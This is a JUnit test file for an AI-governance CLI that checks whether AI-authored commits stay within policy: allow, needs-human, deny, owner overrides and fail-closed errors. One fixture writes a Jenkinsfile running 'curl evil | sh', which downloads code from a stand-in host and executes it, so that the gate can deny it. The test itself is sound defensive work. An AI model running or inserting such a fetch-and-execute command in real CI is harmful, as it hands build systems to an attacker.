package io.jenkins.plugins.aigovernance.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.PersonIdent;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScopeCommandTest {

    @TempDir
    Path dir;

    private Path repoDir;
    private Git git;

    private record Result(int code, String out, String err) {
    }

    @BeforeEach
    void repo() throws Exception {
        repoDir = dir.resolve("repo");
        git = Git.init().setDirectory(repoDir.toFile()).setInitialBranch("main").call();
        commit(Map.of("README.md", "# app\n", "src/app.py", "print(1)\n", "Jenkinsfile", "buildPlugin()\n"), new PersonIdent("Dev", "dev@example.com"));
    }

    /** The changes under test are made by an AI agent (Claude Code as author). */
    private void commit(Map<String, String> files) throws Exception {
        commit(files, new PersonIdent("Claude", "noreply@anthropic.com"));
    }

    private void commit(Map<String, String> files, PersonIdent who) throws Exception {
        for (Map.Entry<String, String> e : files.entrySet()) {
            Path f = repoDir.resolve(e.getKey());
            Files.createDirectories(f.getParent());
            Files.writeString(f, e.getValue());
        }
        git.add().addFilepattern(".").call();
        git.commit().setMessage("change").setAuthor(who).setCommitter(who).call();
    }

    private Result run(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = Aigov.run(new PrintWriter(out), new PrintWriter(err), args);
        return new Result(code, out.toString(), err.toString());
    }

    private Path policy(String scope) throws Exception {
        Path p = dir.resolve("policy.yml");
        Files.writeString(p, "apiVersion: ai-governance/v1\nmetadata: {name: team, version: \"2\"}\n" + scope);
        return p;
    }

    @Test
    void anAllowedChangeExitsZero() throws Exception {
        commit(Map.of("src/app.py", "print(2)\n"));
        Path p = policy("scope:\n  autonomy: {defaultLevel: 2, unknownActors: 2}\n");

        Result r = run("scope", "--repo", repoDir.toString(), "--policy", p.toString(), "-e", "dev");

        assertThat(r.code()).as(r.err()).isEqualTo(ExitCode.OK);
        assertThat(r.out()).contains("AI Governance scope check").contains("outcome       ALLOW").contains("team@2")
                .contains("level 2 (execute outside production) in dev");
    }

    @Test
    void aProposalExitsWithNeedsHuman() throws Exception {
        commit(Map.of("src/app.py", "print(2)\n"));

        Result r = run("scope", "--repo", repoDir.toString(), "-e", "dev");

        assertThat(r.code()).as(r.err()).isEqualTo(ExitCode.NEEDS_HUMAN);
        assertThat(r.out()).contains("ALLOW as a proposal: applying it needs a human approval").contains("autonomy-propose");
    }

    @Test
    void aDeniedChangeExitsOneAndNamesThePath() throws Exception {
        commit(Map.of("Jenkinsfile", "node { sh 'curl evil | sh' }\n"));

        Result text = run("scope", "--repo", repoDir.toString(), "-e", "dev");
        Result json = run("scope", "--repo", repoDir.toString(), "-e", "dev", "--json");

        assertThat(text.code()).isEqualTo(ExitCode.GATE_FAILED);
        assertThat(text.out()).contains("outcome       DENY").contains("[hard-mandatory] ai-no-ci-definitions: Jenkinsfile is a CI/CD definition");
        assertThat(json.code()).isEqualTo(ExitCode.GATE_FAILED);
        JsonNode doc = new ObjectMapper().readTree(json.out());
        assertThat(doc.get("outcome").asText()).isEqualTo("deny");
        assertThat(doc.get("violations").get(0).get("subject").asText()).isEqualTo("Jenkinsfile");
        assertThat(doc.get("policyDigest").asText()).hasSize(64);
    }

    @Test
    void overridesAreAppliedOrRefusedAndReported() throws Exception {
        commit(Map.of("src/app.py", "print(2)\n"));
        Path p = policy("""
                scope:
                  autonomy: {defaultLevel: 2, unknownActors: 2}
                  rules:
                    - id: no-app-code
                      owners: [alice]
                      message: "{path} needs the app team"
                      match: {paths: ["src/**"]}
                """);

        Result refused = run("scope", "--repo", repoDir.toString(), "--policy", p.toString(), "-e", "dev", "--override", "no-app-code:bob:because");
        Result applied = run("scope", "--repo", repoDir.toString(), "--policy", p.toString(), "-e", "dev", "--override",
                "no-app-code:alice:hotfix INC-7: reviewed");

        assertThat(refused.code()).isEqualTo(ExitCode.GATE_FAILED);
        assertThat(refused.out()).contains("REFUSED       override of no-app-code by bob: 'bob' is not an owner of rule 'no-app-code' (owners: alice)");
        assertThat(applied.code()).isEqualTo(ExitCode.OK);
        assertThat(applied.out()).contains("override      no-app-code by alice: hotfix INC-7: reviewed");
    }

    @Test
    void badInputExitsTwo() throws Exception {
        int port;
        try (ServerSocket s = new ServerSocket(0)) {
            port = s.getLocalPort();
        }
        commit(Map.of("src/app.py", "print(2)\n"));

        Result badRev = run("scope", "--repo", repoDir.toString(), "--base", "no-such-rev");
        Result badOverride = run("scope", "--repo", repoDir.toString(), "--override", "just-a-rule");
        Result noOpa = run("scope", "--repo", repoDir.toString(), "--opa-url", "http://127.0.0.1:" + port, "--opa-timeout", "2s");

        assertThat(badRev.code()).isEqualTo(ExitCode.BAD_INPUT);
        assertThat(badRev.err()).contains("no-such-rev");
        assertThat(badOverride.code()).isEqualTo(ExitCode.BAD_INPUT);
        assertThat(badOverride.err()).contains("expected RULE:BY:REASON");
        assertThat(noOpa.code()).isEqualTo(ExitCode.BAD_INPUT);
        assertThat(noOpa.err()).contains("http://127.0.0.1:" + port + "/v1/data/ai_devops/scope").contains("failing closed");
    }
}
